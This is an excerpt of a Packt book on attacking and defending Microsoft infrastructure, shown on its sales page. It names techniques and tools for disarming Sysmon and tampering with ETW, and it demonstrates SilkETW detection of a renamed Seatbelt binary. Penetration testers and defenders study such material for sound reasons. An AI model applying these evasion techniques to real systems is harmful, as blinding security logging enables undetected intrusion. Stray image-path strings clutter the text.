We have two main ways to bypass Sysmon – operate inside rules’ blind spots or disarm Sysmon. Rules bypass will be specific to the environment and may vary significantly. So, let’s have a look at what we can do to disarm Sysmon. Olaf Hartong has an excellent blog post describing possible venues for attackers[39]. Mostof the techniques mentioned require highly privileged access on the box and can trigger an immediate critical security incident for the blue team, but they are still worth mentioning:

  • Configuration change
  • Sysmon service stop
  • Suppress logging
  • Access/alter configuration viaregistry
  • Process injection in Sysmon.exe
  • Driver renaming

The reliable way to silence Sysmon is by using the Invoke-Phant0m tool[40], which will keep the victim’s machine online but not logging anything, because it kills logging threads. There are also more advanced ways to put Sysmon in quiet mode, such as patching the EtwEventWrite API[41]. There is remarkable research done by CodeWhite that shows how Sysmon can be hooked and events can be manipulated[42]. Particularly, I would like to mention that this way of disarming Sysmon is probably the most silent publicly available way, as stated that by the researchers[42]: “no suspicious ProcessAccess events on Sysmon are observable via Sysmon or the Event Log making the detection (supposedly) nontrivial.

Another way is to unload the Sysmon driver completely using a tool called Shhmon[43]. It allows the attacker to find even renamed Sysmon drivers and unload them. We can also use a built-in utility called fltMC.exe or the misc::mflt Mimikatz module for the same purpose. Anyway, there are notable events left in logs that can be used to hunt for this technique.

Event Tracing for Windows (ETW)

Event Tracing for Windows (ETW) is a kernel-level tracing facility for logging events and is intended to be used for application debugging and can be enabled/disabled without restarting the application/system. In short, the system consists of three components – controllers,providers, and consumers. Controllers are used to start/stop the Event Tracing session, which is used to receive events from providers and deliver them to consumers. To start using ETW, I can recommend the most detailed beginners guide[44]. Bmcder shows how to use the logman and wevtutil.exe tools, event manifests, and APIs to access ETW. At the end, there is a list of useful providers for the blue team. Also, it’s important to note that ETW is useful for collecting ongoing events rather than historical ones. However, the number of events is huge and will require post-processing using SIEM and/or Yara.

Let’s investigate how to use ETW for .NET tooling usage visibility. There are two excellent blog posts by F-Secure on how to detect malicious use of .NET. Part 1[45] is dedicated to the process of loading .NETassemblies and how to gain visibility of them. Part 2[46] goes into the details of JIT and Interop tracing, showing how malicious examples of Meterpreter and SafetyKatz can be detected.Method names, assemblies, and common malware API calls will be a security concern for an insightful defender. For both offensive and defensive tests, we can use a great tool created by FuzzySec called SilkETW[47]. Essentially, it is a set of wrappers for ETW that we can use in real time for collecting and filtering .NET events from Microsoft-Windows-DotNETRuntime and other providers. We can further enhance our analysis by applying known indicators of compromise from Yara. Following is a simple example of running renamed Seatbelt[48]:

Figure 2.16 – Process Hacker shows loaded .NET assemblies

Figure 2.16 – Process Hacker shows loaded .NET assemblies

We will start SilkETW by using the following command:

 .\SilkETW.exe -t user -pn Microsoft-Windows-DotNETRuntime -uk 0x2038 -l verbose -ot eventlog

After the launch of the SilkETW process, 820 events have been collected already. We execute Seatbelt to get system information by running the following command:

.\legit_binary.exe OSInfo

The number of events goes up to 1,763, and some of them include indicators of compromise. Going through these events allows security products such as Yara or modern AV/EDR solutions to detect our activity:

Figure 2.17 – SilkETW in actionFigure 2.17 – SilkETW in action

One of the corresponding log entries is as follows:

Figure 2.18 – Multiple Seatbelt entries inside the log

Figure 2.18 – Multiple Seatbelt entries inside the log

We have two main strategies to avoid detection – tamper with ETW or use some kind of obfuscation. One example of an open source protector is ConfuserEx[49]. It still leaves some IOCs, but it can be a good starting point, as was demonstrated in the blog post by White Knight Labs[50].

A more promising way to bypass ETW is to hide tradecraft from it. XPN published greatresearch on how to do it in his blog[51]. The idea has much in common with AMSI bypass – patch the call to ntdll!EtwEventWrite in a way that will not log anything. Another way to achieve the same result was demonstrated by Cneelis in his TamperETW[52] example.

To observe ETW in action, I encourage you to read an excellent blog post by mez0[53]. The author demonstrates .NET provider creation, simple .NET loader detection, and ETW neutralization. Repairing the ETWprovider after execution is demonstrated as well. Links to relevant research and an overview of other security ETW providers are included as well, making this research unique and distinguishable.

A list of other ETW tampering techniques was published by Palantir in their blog[54]. Two of these techniques (Autologger provider removal and provider Enable property modification) will require reboot, and all of them require at least administrator privileges.


In this chapter, we demonstrated the basic concepts of evasion for common security controls. This is just the tip of the iceberg, as we did not cover AV/EDR bypass, toolcustomization, shellcode loaders, and much more. We covered built-in controls (AMSI) as well as enhanced security components that can be deployed by Group Policies in the domain (AppLocker and Enhanced PowerShell Security). Then, we had a look at possible detection mechanisms that can be enforced in Windows with the help of Sysmon and ETW.

In the upcoming chapters, we are going to use different tools and focus on concepts. We will run tools on machines with Microsoft Defender disabled. It is important to show that evasion is a vital part of the process and always comes first. The key to success is to know what our tools are doing under the hood, and what IOCs we leave on compromised machines.

The next chapter will be devoted todomain enumeration. We will see how it can be done with different tools, what the well-known patterns are for such activities, and how not to miss important bits.


  1. Process Hacker:
  2. API monitor:
  3. AMSI bypass list by S3cur3Th1sSh1t:
  4. AMSI bypass list by Pentestlaboratories:
  5. Invoke-Obfuscation script:
  6. Nishang project:
  7. Powercat:
  8. Persistence via AMSI:9. Threat Hunting AMSI bypasses by Pentest Laboratories:
  10. Hunt for AMSIbypasses by F-Secure:
  11. Tiraniddo’s research about Applocker internals:
  12. Sensitive PowerShell capabilities constrained by CLM:
  13. AppLocker beginners guide:
  14. AppLocker bypass using InstallUtil:
  15. AppLocker bypass using MSBuild:
  16. AppLocker bypass list project:
  17. PowerShdll project uses PowerShell automation DLLs:
  18. PSBypassCLM project to create a wrapper over InstalUtil:
  19. Bypass-CLM project to patch the return value:
  20. Bypass CLM with the help of COM:
  21. Bypass CLM by setting the HKCU environment value:
  22. AaronLocker project:
  23. Deploy WDAC and AppLocker:
  24. Sysmon:
  25. Sysmon Community Guide:
  26. Sysmon config version by SwiftOnSecurity:
  27. Sysmon config version by Florian Roth:
  28. Sysmon config version by Olaf Hartong:
  29. ScriptBlock Logging bypass by30. ScriptBlock Warning Event Logging by
  31. DeepBlue:
  32. Newish bypasses Part 1:
  33. Newish bypasses Part 2:
  34. PowerShell Protect Module:
  35. Bypass of EnableTranscripting:
  36. Invisi-Shell tool: and
  37. Stracciatella tool:
  38. Detect Sysmon:
  39. Sysmon tampering:
  40. Phant0m tool:
  41. SysmonQuiet:
  42. SysmonEnte:
  43. Shhmon:
  44. ETW beginner’s guide:
  45. Detect malicious usage of .NET part 1:
  46. Detect malicious usage of .NET part 2:
  47. SilkETW:
  48. Seatbelt:
  49. ConfuserEx:
  50. Bypass ETW by neutering the EtwEventWrite API:
  51. Patch EtwEventWrite API:
  52. TamperETW:
  53. Evade ETW and AMSI:
  54. Tampering with ETW:

Further reading

These aids for further study will let you dive deeper into the attacks covered in the chapter:Left arrow icon Right arrow icon

Key benefits

  • Find out how to attack real-life Microsoft infrastructure
  • Discover how to detect adversary activities and remediate your environment
  • Apply the knowledge you’ve gained by working on hands-on exercises
  • Purchase of the print or Kindle book includes a free PDF eBook


This book teaches you the tactics and techniques used to attack a Windows-based environment, along withshowing you how to detect malicious activities and remediate misconfigurations and vulnerabilities. You’ll begin by deploying your lab, where every technique can be replicated. The chapters help you master every step of the attack kill chain and put new knowledge into practice. You’ll discover how to evade defense of common built-in security mechanisms, such as AMSI, AppLocker, and Sysmon; perform reconnaissance and discovery activities in the domain environment by usingcommon protocols and tools; and harvest domain-wide credentials. You’ll also learn how to move laterally by blending into the environment’s traffic to stay under radar, escalate privileges inside the domain and across the forest, and achieve persistence at the domain level and on the domain controller. Every chapter discusses OpSec considerations for each technique, and you’ll apply this kill chain to perform the security assessment of other Microsoft products and services, such as Exchange, SQL Server, and SCCM. By the end of this book, you'll be able to perform a full-fledged security assessment of the Microsoft environment, detect malicious activity in your network, and guide IT engineers on remediation steps to improve the security posture of the company.

What you will learn

Understand and adopt the Microsoft infrastructure kill chain methodology Attack Windows services, such as Active Directory, Exchange, WSUS, SCCM, AD CS, and SQL Server Disappear from thedefender's eyesight by tampering with defensive capabilities Upskill yourself in offensive OpSec to stay under the radar Find out how to detect adversary activities in your Windows environment Get to grips with the steps needed to remediate misconfigurations Prepare yourself for real-life scenarios by getting hands-on experience with exercises

What do you get with eBook?

Product feature icon Instant access to your Digital eBook purchase
Product feature icon Download this book in EPUB and PDF formats
Product feature icon AI Assistant (beta) to help accelerate your learning
Product feature icon Access this title in our online reader with advanced features
Product feature icon DRM FREE - Read whenever, wherever and however you want
Buy Now

Product Details

Publication date : Nov 17, 2023
Length 360 pages
Edition : 1st Edition
Language : English
ISBN-13 : 9781804611364
Concepts :

Table of Contents

13 Chapters
Preface Chevron down icon Chevron up icon
1. Chapter 1: Getting the Lab Ready and Attacking Exchange Server Chevron down icon Chevron up icon
2. Chapter 2: Defense Evasion Chevron down icon Chevron up icon
3. Chapter 3: Domain Reconnaissance and Discovery Chevron down icon Chevron up icon
4. Chapter 4: Credential Access in Domain Chevron down icon Chevron up icon
5. Chapter 5: Lateral Movement in Domain and Across Forests Chevron down icon Chevron up icon
6. Chapter 6: Domain Privilege Escalation Chevron down icon Chevron up icon7. Chapter 7: Persistence on Domain Level Chevron down icon Chevron up icon
8. Chapter 8: Abusing Active Directory Certificate Services Chevron down icon Chevron up icon
9. Chapter 9: Compromising Microsoft SQL Server Chevron down icon Chevron up icon
10. Chapter 10: Taking Over WSUS and SCCM Chevron down icon Chevron up icon
11. Index Chevron down icon Chevron up icon
12. Other Books You May Enjoy Chevron down icon Chevron up icon

Customer reviews

Filter icon Filter
Top Reviews
Rating distribution
Full star icon Full star icon Full star icon Full star icon Full star icon 5
(1 Ratings)
5 star 100%
4 star 0%
3 star 0%
2 star 0%
1 star 0%

Filter reviews by

N/A Feb 21, 2024
Full star icon Full star icon Full star icon Full star icon Full star icon 5
Pubblicazioni interessanti scritti con il giusto livello tecnico ma soprattutto in modo chiaro.
Feefo Verified review Feefo image
Get free access to Packt library with over 7500+ books and video courses for 7 days!
Start Free Trial


How do I buy and download an eBook? Chevron down icon Chevron up icon

Where there is an eBook version of a title available, you can buy it from the book details for that title. Add either the standalone eBook or the eBook and print book bundle to your shopping cart. Your eBook will show in your cart as a product on its own. After completing checkout and payment in the normal way, you will receive your receipt on the screencontaining a link to a personalised PDF download file. This link will remain active for 30 days. You can download backup copies of the file by logging in to your account at any time.

If you already have Adobe reader installed, then clicking on the link will download and open the PDF file directly. If you don't, then save the PDF file on your machine and download the Reader to view it.

Please Note: Packt eBooks are non-returnable and non-refundable.

Packt eBook and Licensing When you buy an eBook from Packt Publishing, completing your purchase means you accept the terms of our licence agreement. Please read the full text of the agreement. In it we have tried to balance the need for the ebook to be usable for you the reader with our needs to protect the rights of us as Publishers and of our authors. In summary, the agreement says:

  • You may make copies of your eBook for your own use onto any machine
  • You may not pass copies of the eBook on to anyone else
How can I make a purchase on your website? Chevron down icon Chevron up icon

If you want to purchase a video course, eBook or Bundle (Print+eBook) please follow below steps:

  1. Register on our website using your email address and the password.
  2. Search for the title by name or ISBN using the search option.
  3. Select the title you want to purchase.
  4. Choose the format you wish to purchase the title in; if you order the Print Book, you get a free eBook copy of the same title.
  5. Proceed with the checkout process (payment to be made using Credit Card, Debit Cart, or PayPal)
Where can I access support around an eBook? Chevron down icon Chevron up icon
